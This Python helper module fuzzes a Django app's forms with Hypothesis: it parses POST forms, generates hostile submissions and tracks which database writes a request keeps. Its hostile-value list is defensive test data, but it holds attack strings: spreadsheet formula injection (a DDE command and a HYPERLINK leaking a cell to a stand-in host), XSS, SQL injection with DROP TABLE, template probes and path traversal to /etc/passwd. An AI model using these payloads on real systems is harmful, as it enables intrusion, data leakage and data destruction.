"""Tools for fuzzing the app's forms (tests/test_fuzz_forms.py).

- `parse_forms` reads the POST forms of a page: each field's name, kind, options and current value.
- `submission` is a Hypothesis strategy for one submission of a form: the form as a person would fill it in,
  with a few fields replaced by hostile values (unicode, very long text, NUL bytes, formula injection,
  impossible dates, huge numbers) or left out.
- `WriteWatch` records which tables a request wrote to and kept, following the savepoints the request
  opened, released and rolled back.
"""

from __future__ import annotations

import re
from collections.abc import Iterator
from contextlib import contextmanager
from dataclasses import dataclass, field
from html.parser import HTMLParser

from django.core.files.uploadedfile import SimpleUploadedFile
from django.db import connection
from django.utils import timezone
from hypothesis import strategies as st

# --- Reading the forms of a page -------------------------------------------------------------------


@dataclass
class FormField:
    name: str
    kind: str  # text, textarea, select, radio, checkbox, hidden, file, submit, number, password, email...
    options: list[str] = field(default_factory=list)
    value: list[str] = field(default_factory=list)  # what the page holds now (selected, checked or typed)
    multiple: bool = False


@dataclass
class HtmlForm:
    action: str
    fields: dict[str, FormField] = field(default_factory=dict)

    def add(self, name: str, kind: str, *, option: str | None = None, value: str | None = None) -> FormField:
        current = self.fields.get(name)
        if current is None:
            current = self.fields[name] = FormField(name=name, kind=kind)
        elif kind in ("checkbox", "select") or current.kind == "checkbox":
            current.multiple = current.multiple or current.kind == "checkbox"
        if option is not None and option not in current.options:
            current.options.append(option)
        if value is not None:
            current.value.append(value)
        return current


class _FormParser(HTMLParser):
    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.forms: list[HtmlForm] = []
        self._form: HtmlForm | None = None
        self._textarea: str | None = None
        self._select: FormField | None = None
        self._option: dict[str, str | None] | None = None
        self._text: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        a = dict(attrs)
        if tag == "form":
            if (a.get("method") or "get").lower() == "post":
                self._form = HtmlForm(action=a.get("action") or "")
                self.forms.append(self._form)
            return
        form, name = self._form, a.get("name")
        if form is None:
            return
        if tag == "input" and name:
            kind = (a.get("type") or "text").lower()
            if kind in ("radio", "checkbox"):
                item = form.add(name, kind, option=a.get("value") or "on")
                if "checked" in a:
                    item.value.append(a.get("value") or "on")
                if kind == "checkbox":
                    item.multiple = True
            elif kind in ("submit", "button", "image", "reset"):
                if kind == "submit":
                    form.add(name, "submit", option=a.get("value") or "")
            else:
                if a.get("inputmode") == "numeric" and kind == "text":
                    kind = "number"
                form.add(name, kind, value=a.get("value") or "")
        elif tag == "button" and name and (a.get("type") or "submit").lower() == "submit":
            form.add(name, "submit", option=a.get("value") or "")
        elif tag == "textarea" and name:
            self._textarea, self._text = name, []
        elif tag == "select" and name:
            self._select = form.add(name, "select")
            self._select.multiple = "multiple" in a
        elif tag == "option" and self._select is not None:
            self._option, self._text = a, []

    def handle_data(self, data: str) -> None:
        if self._textarea is not None or self._option is not None:
            self._text.append(data)

    def handle_endtag(self, tag: str) -> None:
        if tag == "form":
            self._form = None
        elif tag == "textarea" and self._textarea is not None and self._form is not None:
            self._form.add(self._textarea, "textarea", value="".join(self._text).lstrip("\n"))
            self._textarea = None
        elif tag == "option" and self._option is not None and self._select is not None:
            value = self._option.get("value")
            value = "".join(self._text).strip() if value is None else value
            if value not in self._select.options:
                self._select.options.append(value)
            if "selected" in self._option:
                self._select.value.append(value)
            self._option = None
        elif tag == "select":
            self._select = None


def parse_forms(html: str) -> list[HtmlForm]:
    """The POST forms of a page. The sign-out form of the page header is left out."""
    parser = _FormParser()
    parser.feed(html)
    parser.close()
    return [form for form in parser.forms if not form.action.rstrip("/").endswith("/sign-out")]


# --- Hostile values --------------------------------------------------------------------------------

NASTY_TEXT = (
    "",
    " ",
    "\t\r\n",
    "\x00",
    "Before\x00after",
    "=1+1",
    '=HYPERLINK("https://example.invalid/?q="&A1,"Open")',
    "=cmd|' /C calc'!A0",
    "+44 7700 900000",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "{{ 7*7 }}{% debug %}",
    "' OR '1'='1' --",
    "Robert'); DROP TABLE cases_case;--",
    "%s%s%s%n",
    "../../../../etc/passwd",
    "\u202eevil\u202c",
    "Zoë Ångström Łukasz 王小明 محمد",
    "👩🏽‍⚖️🏳️‍🌈",
    "e\u0301\u0301\u0301\u0301",
    "\ufeff\u200b\u00a0",
    "null",
    "None",
    "NaN",
    "-1",
    "0",
    "9" * 40,
    "1e309",
)
_LONG_UNITS = ("x", "é", "😀", "\x00", "\n", "=1+1;", "王")


def text_values() -> st.SearchStrategy[str]:
    return st.one_of(
        st.sampled_from(NASTY_TEXT),
        st.text(max_size=40),
        st.builds(lambda unit, n: unit * n, st.sampled_from(_LONG_UNITS), st.integers(255, 12_000)),
    )


def number_values() -> st.SearchStrategy[str]:
    return st.one_of(
        st.integers(-40, 40).map(str),
        st.integers(-(2**70), 2**70).map(str),
        st.sampled_from(
            (
                "",
                "0",
                "00",
                "-0",
                "2147483648",
                "9223372036854775808",
                "-9223372036854775809",
                "1.5",
                "1e5",
                "inf",
                "-inf",
                "NaN",
                "0x1F",
                " 7 ",
                "\u0663",
                "\uff15",
                "²",
                "½",
                "1_000",
                "9" * 5000,
            )
        ),
        text_values(),
    )


def time_values() -> st.SearchStrategy[str]:
    return st.one_of(
        st.sampled_from(
            (
                "10:00",
                "23:59",
                "00:00",
                "24:00",
                "25:61",
                "9",
                "9am",
                "10:00:00",
                "10.30",
                "12:00:00.999999",
                "\uff11\uff10:\uff10\uff10",
                "99:99",
                "-1:00",
                "noon",
            )
        ),
        text_values(),
    )


IMPOSSIBLE_DATES = (
    ("31", "2", "2026"),
    ("29", "2", "2025"),
    ("30", "2", "2024"),
    ("31", "4", "2026"),
    ("0", "0", "0"),
    ("1", "1", "0"),
    ("1", "1", "0000"),
    ("1", "1", "99999"),
    ("31", "12", "9999"),
    ("1", "1", "1"),
    ("1", "1", "1899"),
    ("32", "13", "2026"),
    ("-1", "-1", "-2026"),
    ("²", "1", "2026"),
    ("\u0663", "\u0661", "\u0662\u0660\u0662\u0666"),
    ("\uff11", "\uff11", "\uff12\uff10\uff12\uff16"),
    ("1", "1", "2" * 5000),
)


def date_values() -> st.SearchStrategy[tuple[str | None, str | None, str | None]]:
    part = st.one_of(st.none(), number_values())
    return st.one_of(st.sampled_from(IMPOSSIBLE_DATES), st.tuples(part, part, part))


def upload_values() -> st.SearchStrategy[SimpleUploadedFile]:
    names = st.one_of(st.sampled_from(("report.pdf", "../../x.pdf", "a\x00.pdf", "é" * 300 + ".pdf", "")), st.text())
    return st.builds(
        lambda name, content: SimpleUploadedFile(name or "unnamed", content), names, st.binary(max_size=2048)
    )


# --- Submissions -----------------------------------------------------------------------------------

_DATE_PART = re.compile(r"^(?P<base>.+)_(?P<part>day|month|year)$")
_TIME = re.compile(r"(^|_)time$")


def _default(item: FormField) -> list[str] | str | None:
    """What a person filling in the form would send for a field the page leaves empty."""
    if item.value and any(item.value):
        return item.value if item.multiple else item.value[0]
    usable = [option for option in item.options if option]
    if item.kind == "submit":
        return None
    if item.kind == "checkbox":
        return []
    if item.kind in ("select", "radio"):
        return usable[:1] if item.multiple else (usable[0] if usable else "")
    if item.kind == "hidden":
        return item.value[0] if item.value else ""
    if item.kind == "email":
        return "someone@example.test"
    if item.kind == "number":
        return "1"
    if _TIME.search(item.name):
        return "10:00"
    if item.kind == "file":
        return None
    return "Typed by the fuzzer"


def _hostile(item: FormField) -> st.SearchStrategy:
    if item.kind in ("select", "radio", "checkbox"):
        choice = st.one_of(st.sampled_from(item.options or [""]), text_values(), number_values())
        if item.multiple:
            return st.lists(choice, max_size=len(item.options) + 2)
        return choice
    if item.kind == "hidden":
        return st.one_of(number_values(), text_values())
    if item.kind == "file":
        return upload_values()
    if item.kind == "submit":
        return st.one_of(st.sampled_from(item.options or [""]), text_values())
    if item.kind == "number":
        return number_values()
    if _TIME.search(item.name):
        return time_values()
    return text_values()


@dataclass(frozen=True)
class _Unit:
    """What the fuzzer changes at once: one field, or a date's day, month and year together."""

    label: str
    names: tuple[str, ...]
    strategy: st.SearchStrategy
    is_date: bool = False


def _units(form: HtmlForm) -> list[_Unit]:
    units: list[_Unit] = []
    dates: dict[str, list[str]] = {}
    for name in form.fields:
        match = _DATE_PART.match(name)
        if match and form.fields[name].kind not in ("select", "radio", "checkbox", "hidden", "submit"):
            dates.setdefault(match["base"], []).append(name)
    in_dates = {name for names in dates.values() for name in names}
    for base, names in dates.items():
        ordered = tuple(f"{base}_{part}" for part in ("day", "month", "year") if f"{base}_{part}" in names)
        units.append(_Unit(base, ordered, date_values(), is_date=True))
    for name, item in form.fields.items():
        if name in in_dates or name == "csrfmiddlewaretoken":
            continue
        units.append(_Unit(name, (name,), _hostile(item)))
    return units


def baseline(form: HtmlForm) -> dict[str, object]:
    """The form as a person would submit it: what the page holds, and plausible values where it holds none."""
    data: dict[str, object] = {}
    today = timezone.localdate()
    for name, item in form.fields.items():
        if name == "csrfmiddlewaretoken":
            continue
        match = _DATE_PART.match(name)
        if match and not (item.value and item.value[0]):
            data[name] = str(getattr(today, match["part"]))
            continue
        value = _default(item)
        if value is not None:
            data[name] = value
    return data


def submission(form: HtmlForm) -> st.SearchStrategy[dict[str, object]]:
    """Submissions of the form: its baseline with some fields (or date groups) replaced or left out."""
    units = _units(form)
    if not units:
        extra = st.dictionaries(text_values(), text_values(), max_size=3)
        return extra.map(lambda fields: {**baseline(form), **{key: value for key, value in fields.items() if key}})

    @st.composite
    def changed(draw: st.DrawFn) -> dict[str, object]:
        data = baseline(form)
        for index in draw(st.lists(st.sampled_from(range(len(units))), unique=True, max_size=len(units))):
            unit = units[index]
            if draw(st.booleans()):  # left out altogether
                for name in unit.names:
                    data.pop(name, None)
                continue
            value = draw(unit.strategy)
            if not unit.is_date:
                data[unit.names[0]] = value
                continue
            parts = dict(zip(("day", "month", "year"), value, strict=True))
            for name in unit.names:
                part = parts[_DATE_PART.match(name)["part"]]
                if part is None:
                    data.pop(name, None)
                else:
                    data[name] = part
        return data

    return changed()


def describe(data: dict[str, object], limit: int = 120) -> str:
    """A submission, short enough for a failure message."""
    shown = []
    for key, value in data.items():
        text = repr(value)
        shown.append(f"{key}={text[:limit]}{'…' if len(text) > limit else ''}")
    return "{" + ", ".join(shown) + "}"


# --- What a request kept in the database -----------------------------------------------------------

_WRITE = re.compile(r'^\s*(?:INSERT\s+INTO|UPDATE|DELETE\s+FROM)\s+"?(?P<table>[\w.]+)"?', re.IGNORECASE)
_SAVEPOINT = re.compile(
    r'^\s*(?P<verb>SAVEPOINT|RELEASE\s+SAVEPOINT|ROLLBACK\s+TO\s+SAVEPOINT)\s+"?(?P<name>\w+)"?', re.I
)


class WriteWatch:
    """The tables written to by the statements run inside `watching()` and not rolled back since."""

    def __init__(self) -> None:
        self.writes: list[str] = []
        self._marks: list[tuple[str, int]] = []

    def _record(self, sql: str) -> None:
        savepoint = _SAVEPOINT.match(sql)
        if savepoint:
            verb, name = savepoint["verb"].upper().split()[0], savepoint["name"]
            if verb == "SAVEPOINT":
                self._marks.append((name, len(self.writes)))
                return
            for position in range(len(self._marks) - 1, -1, -1):
                if self._marks[position][0] == name:
                    if verb == "ROLLBACK":
                        del self.writes[self._marks[position][1] :]
                        del self._marks[position + 1 :]
                    else:
                        del self._marks[position:]
                    return
            return
        write = _WRITE.match(sql)
        if write:
            self.writes.append(write["table"].lower())

    def _wrapper(self, execute, sql, params, many, context):
        result = execute(sql, params, many, context)
        self._record(sql)
        return result

    @contextmanager
    def watching(self) -> Iterator[WriteWatch]:
        with connection.execute_wrapper(self._wrapper):
            yield self

    def kept(self, *, ignore: frozenset[str]) -> list[str]:
        return sorted({table for table in self.writes if table not in ignore})
